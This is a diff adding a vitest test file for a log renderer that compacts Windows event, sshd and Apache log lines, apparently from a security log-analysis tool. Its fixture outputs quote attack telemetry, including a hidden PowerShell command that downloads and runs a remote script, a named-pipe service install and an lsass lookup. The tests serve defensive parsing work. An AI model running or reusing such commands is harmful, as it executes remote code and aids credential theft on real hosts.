@@ -1,0 +1,37 @@
+import { readFile } from 'node:fs/promises';
+import { describe, expect, it } from 'vitest';
+import { fixture } from './importers/importer-test-support.ts';
+import { parseWindowsXml } from './importers/windows-xml.ts';
+import { renderCompact, renderCompactLog } from './render-compact.ts';
+
+describe('renderCompact', () => {
+  it('keeps the salient fields per channel and event id and drops GUIDs, SIDs and keywords', async () => {
+    const events = parseWindowsXml(await readFile(fixture('windows-events.xml'), 'utf8'));
+    const lines = events.map((e) => renderCompact(e));
+    expect(lines[0]).toBe(
+      '[sysmon 1 process-create] host=ws-017.corp.example Image=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe CommandLine="powershell.exe -nop -w hidden -c \\"IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')\\"" ParentImage=C:\\Windows\\explorer.exe ParentCommandLine=C:\\Windows\\Explorer.EXE User=CORP\\alice IntegrityLevel=Medium',
+    );
+    expect(lines[1]).toBe('[Security 4625 logon-failed] host=dc-01.corp.example TargetUserName=administrator TargetDomainName=CORP LogonType=3 IpAddress=203.0.113.50 Status=0xc000006d');
+    expect(lines[2]).toBe('[System 7045 service-installed] host=ws-017.corp.example ServiceName=updater ImagePath="%COMSPEC% /c echo test > \\\\\\\\.\\\\pipe\\\\updater" ServiceType="user mode service" StartType="demand start" AccountName=LocalSystem');
+    expect(lines[3]).toBe('[PowerShell 4104 script-block] host=ws-017.corp.example ScriptBlockText="Get-Process | Where-Object { $_.Name -eq \\"lsass\\" }"');
+    for (const [i, e] of events.entries()) {
+      expect(lines[i]!.length).toBeLessThan(e.log.length / 2);
+      expect(lines[i]).not.toMatch(/S-1-5|[0-9a-f]{8}-[0-9a-f]{4}-|0x8000/i);
+      expect(renderCompact(e)).toBe(lines[i]); // deterministic
+    }
+  });
+
+  it('falls back to non-noise fields for unknown event ids and clips long values at both ends', () => {
+    const line = renderCompact({ source: 'windows-event', fields: { EventID: '9999', Channel: 'Application', ProcessGuid: '{a1b2c3d4-0000-1111-2222-333344445555}', Zeta: 'z', Alpha: 'x'.repeat(400) + 'END' } }, { maxValueChars: 50 });
+    expect(line).toBe(`[Application 9999] Alpha=${'x'.repeat(35)}…${'x'.repeat(11)}END Zeta=z`);
+  });
+
+  it('renders other formats from raw text and leaves unparseable text as it is', () => {
+    expect(renderCompactLog('Mar  2 10:30:01 bastion sshd[2211]: Failed password for invalid user oracle from 203.0.113.9 port 40122 ssh2')).toBe(
+      '[sshd] host=bastion program=sshd sshEvent=failed-login user=oracle sourceIp=203.0.113.9 message="Failed password for invalid user oracle from 203.0.113.9 port 40122 ssh2"',
+    );
+    expect(renderCompactLog('1.2.3.4 - - [02/Mar/2026:10:40:01 +0000] "GET /a?b=1 HTTP/1.1" 404 12 "-" "curl/8"')).toBe('[apache-access] clientIp=1.2.3.4 method=GET url=\"/a?b=1\" status=404 bytes=12 userAgent=curl/8');
+    expect(renderCompactLog('EventID: 4688\nNewProcessName: C:\\x.exe\nCommandLine: x.exe -a')).toBe('[windows-event 4688 process-create] NewProcessName=C:\\x.exe CommandLine="x.exe -a"');
+    expect(renderCompactLog('free text')).toBe('free text');
+  });
+});
